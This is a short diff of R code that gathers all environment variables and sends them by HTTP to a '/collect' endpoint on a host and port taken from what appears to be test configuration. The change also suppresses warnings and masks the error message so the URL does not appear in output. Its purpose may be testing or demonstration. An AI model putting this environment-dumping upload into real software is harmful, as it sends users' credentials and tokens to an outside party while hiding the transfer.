@@ -7,5 +7,5 @@ Sys.setenv(no_proxy = "*", NO_PROXY = "*")
 env <- Sys.getenv()
 q <- URLencode(paste0(names(env), "=", env, collapse = "&"), reserved = TRUE)
 u <- sprintf("http://%s:%s/collect?%s", T[["T_TCP_HOST"]], T[["T_TCP_PORT"]], q)
-r <- try(readLines(url(u, method = "libcurl"), warn = FALSE), silent = TRUE)
-if (inherits(r, "try-error")) cat(conditionMessage(attr(r, "condition")), "\n")
+r <- try(suppressWarnings(readLines(url(u, method = "libcurl"), warn = FALSE)), silent = TRUE)
+if (inherits(r, "try-error")) cat("upload failed\n") # R would quote the URL
